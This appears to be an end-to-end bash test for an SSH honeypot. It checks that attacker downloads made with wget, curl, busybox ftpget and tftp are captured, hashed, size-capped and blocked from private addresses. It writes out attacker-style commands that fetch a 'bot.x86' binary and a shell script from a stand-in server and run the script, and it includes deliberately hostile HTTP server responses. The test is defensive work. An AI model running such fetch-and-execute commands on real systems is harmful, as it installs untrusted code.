#!/usr/bin/env bash
# Downloads with [capture] fetch = yes: from an SSH session on the gateway,
# wget, curl and busybox wget of files on a web server, busybox ftpget,
# wget and curl of files on an FTP server, and busybox tftp of a file on a
# TFTP server, in the test's own "internet"
# namespace get the files unchanged, fetched from the host's
# side; each is a file.download with fetched, sha256 (the server's file's),
# size, content type, a file-type verdict and where it came from, and the
# artifact is the file. A file past [capture] max_bytes reaches the client
# cut there, and says so. The server's 404 is passed on. The fetcher never
# connects to the host's own addresses or private ones: such a download
# fails at once and says why, also when a redirect points there.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
[[ -x /usr/bin/python3 ]] || e2e_skip "python3 not installed (Debian's)"
e2e_start_ssh_frontend 10.247.0.0/16 "[capture]
fetch = yes
max_bytes = 1M
[honeynet]
pool = 1"
login() { e2e_as_attacker sshpass -p pw ssh "${SSHO[@]}" -p $port eve@"$ATT_HOST_IP" "$@"; }
ev() { "$KARAKURI" -c "$conf" events --json --type "$1"; }

# The "internet": a web server on an address of its own behind a veth.
e2e_internet
# (http.server's own main looks its address up in DNS first: none here)
ip netns exec "$INET_NS" /usr/bin/python3 -u -c '
import functools, http.server, socketserver, sys, time
class S(http.server.ThreadingHTTPServer):
    def server_bind(self):
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "www", 80
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        try:
            self.hostile()
        except OSError:
            pass
    def hostile(self):
        w = self.wfile.write
        if self.path.startswith("/to/"):  # /to/HOST/PATH: a redirect there
            self.send_response(302)
            self.send_header("Location", "http://" + self.path[4:])
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif self.path == "/endless":  # headers without end
            w(b"HTTP/1.1 200 OK\r\n")
            while True:
                w(b"X-More: " + b"a" * 1000 + b"\r\n")
        elif self.path == "/chunked":  # a chunked body without end
            w(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            while True:
                w(b"10000\r\n" + b"z" * 65536 + b"\r\n")
        elif self.path == "/drip":  # a byte a second
            w(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
            while True:
                w(b"d")
                self.wfile.flush()
                time.sleep(1)
        else:
            super().do_GET()
S((sys.argv[1], 80), functools.partial(H, directory=sys.argv[2])).serve_forever()
' "$srv" "$www" </dev/null >"$E2E_TMP/http.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
e2e_wait_for 10 curl -sf -o /dev/null "http://$srv/x.sh" || e2e_fail "the test's web server did not start"
ip netns exec "$INET_NS" /usr/bin/python3 -u "$KARAKURI_SRC/tests/e2e/helpers_fetch/ftpd.py" "$srv" "$www" \
  </dev/null >"$E2E_TMP/ftp.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
e2e_wait_for 10 curl -sf -o /dev/null "ftp://$srv/x.sh" || e2e_fail "the test's FTP server did not start"
ip netns exec "$INET_NS" /usr/bin/python3 -u "$KARAKURI_SRC/tests/e2e/helpers_fetch/tftpd.py" "$srv" "$www" \
  </dev/null >"$E2E_TMP/tftp.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
e2e_wait_for 10 curl -sf -o /dev/null "tftp://$srv/x.sh" || e2e_fail "the test's TFTP server did not start"
sha() { sha256sum "$1" | cut -d' ' -f1; }

login true || e2e_fail "login"
t0=$(date +%s)
out=$(login "set -x
timeout 30 wget -q -O /tmp/w http://$srv/bot.x86; echo wget=\$?
timeout 30 curl -sf -o /tmp/c http://$srv/x.sh; echo curl=\$?
timeout 30 busybox wget -q -O /tmp/b http://$srv/bot.x86; echo bbwget=\$?
timeout 30 wget -q -O /tmp/big http://$srv/big.bin; echo big=\$?
timeout 30 wget -q -O /tmp/m http://$srv/missing; echo missing=\$?
timeout 30 wget -q -O /tmp/p http://192.168.77.1/x; echo private=\$?
timeout 30 wget -q -O /tmp/h http://$srv/to/$ATT_HOST_IP/x; echo hostown=\$?
timeout 30 wget -q -O /tmp/r http://$srv/to/$srv/x.sh; echo redirected=\$?
timeout 30 busybox ftpget -u anonymous -p guest $srv /tmp/fg /bot.x86; echo ftpget=\$?
timeout 30 wget -q -O /tmp/fw ftp://$srv/x.sh; echo ftpwget=\$?
timeout 30 curl -s -o /tmp/fc ftp://$srv/x.sh; echo ftpcurl=\$?
timeout 30 busybox ftpget -u anonymous -p guest $srv /tmp/fm /missing; echo ftpmissing=\$?
timeout 30 busybox tftp -g -r bot.x86 -l /tmp/tg $srv; echo tftp=\$?
timeout 30 busybox tftp -g -r missing -l /tmp/tm $srv; echo tftpmissing=\$?
sha256sum /tmp/w /tmp/c /tmp/b /tmp/big /tmp/fg /tmp/fw /tmp/fc /tmp/tg; sh /tmp/c" 2>"$E2E_TMP/login.err")
e2e_log "$(tr '\n' ' ' <<<"$out")"
for k in wget=0 curl=0 bbwget=0 big=0 redirected=0 ftpget=0 ftpwget=0 ftpcurl=0 tftp=0; do
  grep -qx "$k" <<<"$out" || e2e_fail "$k: $out $(tail -20 "$E2E_TMP/login.err")"
done
grep -qx "missing=8" <<<"$out" || e2e_fail "the server's 404 (wget exit 8): $out"
for k in private hostown ftpmissing tftpmissing; do
  grep -q "^$k=[1-9]" <<<"$out" || e2e_fail "$k: $out"
done
(($(date +%s) - t0 < 60)) || e2e_fail "the downloads took $(($(date +%s) - t0)) s"
grep -q "$(sha "$www/bot.x86")  /tmp/w" <<<"$out" || e2e_fail "wget's file differs"
grep -q "$(sha "$www/bot.x86")  /tmp/b" <<<"$out" || e2e_fail "busybox wget's file differs"
grep -q "$(sha "$www/x.sh")  /tmp/c" <<<"$out" || e2e_fail "curl's file differs"
grep -qx pwned <<<"$out" || e2e_fail "the script did not run"
grep -q "$(sha "$www/bot.x86")  /tmp/fg" <<<"$out" || e2e_fail "ftpget's file differs"
grep -q "$(sha "$www/bot.x86")  /tmp/tg" <<<"$out" || e2e_fail "tftp's file differs"
grep -q "$(sha "$www/x.sh")  /tmp/fw" <<<"$out" || e2e_fail "wget's FTP file differs"
grep -q "$(sha "$www/x.sh")  /tmp/fc" <<<"$out" || e2e_fail "curl's FTP file differs"
grep -q "$(head -c 1048576 "$www/big.bin" | sha256sum | cut -d' ' -f1)  /tmp/big" <<<"$out" ||
  e2e_fail "the cut file is not the first max_bytes"

sleep 1
ev file.download >"$E2E_TMP/dl.json"
want() { # url sha filter...
  local url=$1 s=$2
  shift 2
  jq -se --arg u "$url" --arg s "$s" "any(.[]; .url == \$u and $*)" "$E2E_TMP/dl.json" >/dev/null ||
    e2e_fail "$url: no file.download with $*: $(cat "$E2E_TMP/dl.json")"
}
bsha=$(sha "$www/bot.x86")
want "http://$srv/bot.x86" "$bsha" '.fetched and .sha256 == $s and .artifact == $s and .size == 700000 and .tool == "wget" and .origin_ip != null and .filetype == "data" and .status == 200'
want "http://$srv/bot.x86" "$bsha" '.fetched and .sha256 == $s and .tool == "busybox-wget"'
want "http://$srv/x.sh" "$(sha "$www/x.sh")" '.fetched and .sha256 == $s and .tool == "curl" and (.filetype | startswith("script"))'
want "http://$srv/big.bin" "" '.fetched and .truncated and .size == 1048576 and .max_bytes == 1048576'
want "http://$srv/missing" "" '.status == 404'
want "http://192.168.77.1/x" "" '(.fetched | not) and .error == "address not allowed"'
want "http://$srv/to/$ATT_HOST_IP/x" "" '(.fetched | not) and .error == "address not allowed"'
want "http://$srv/to/$srv/x.sh" "$(sha "$www/x.sh")" '.fetched and .sha256 == $s'
want "ftp://$srv/bot.x86" "$bsha" '.fetched and .sha256 == $s and .proto == "ftp" and .username == "anonymous" and .password == "guest"'
want "ftp://$srv/x.sh" "$(sha "$www/x.sh")" '.fetched and .sha256 == $s and .proto == "ftp"'
want "ftp://$srv/missing" "" '(.fetched | not) and .error != null'
want "tftp://$srv/bot.x86" "$bsha" '.fetched and .sha256 == $s and .proto == "tftp"'
want "tftp://$srv/missing" "" '(.fetched | not) and .error != null'
cmp -s "$www/bot.x86" "$E2E_TMP/var/artifacts/$bsha" || e2e_fail "the artifact is not the server's file"
# Hostile servers end their own fetch and nothing else: while they run,
# another download goes through at once.
out=$(login "for p in endless chunked drip; do (s=\$(date +%s); timeout 40 wget -q -O /tmp/\$p http://$srv/\$p; echo \$p=\$? s=\$((\$(date +%s) - s))) & done
sleep 2; s=\$(date +%s%N); timeout 20 wget -q -O /tmp/ok http://$srv/x.sh; echo meanwhile=\$? ms=\$(( (\$(date +%s%N) - s) / 1000000 )); wait" 2>/dev/null)
e2e_log "$(tr '\n' ' ' <<<"$out")"
grep -q '^meanwhile=0 ' <<<"$out" || e2e_fail "a download while hostile ones ran: $out"
(($(sed -n 's/^meanwhile=0 ms=//p' <<<"$out") < 3000)) || e2e_fail "a download waited for hostile ones: $out"
for p in endless chunked drip; do
  grep -q "^$p=" <<<"$out" || e2e_fail "$p did not end: $out"
done
sleep 1
ev file.download >"$E2E_TMP/dl.json"
want "http://$srv/endless" "" '(.fetched | not) and .error == "headers too long"'
want "http://$srv/chunked" "" '.fetched and .truncated and .size == 1048576'
want "http://$srv/drip" "" '(.fetched | not) and (.error | test("slow|Timeout|timed out"; "i"))'
kill -0 "$KK_PID" || e2e_fail "karakuri is gone"
"$KARAKURI" -c "$conf" export --format cowrie >"$E2E_TMP/cowrie.json"
jq -se --arg s "$bsha" 'any(.[]; .eventid == "cowrie.session.file_download" and .shasum == $s)' \
  "$E2E_TMP/cowrie.json" >/dev/null || e2e_fail "cowrie export: $(grep file_download "$E2E_TMP/cowrie.json" | head -3)"
e2e_log "ok"
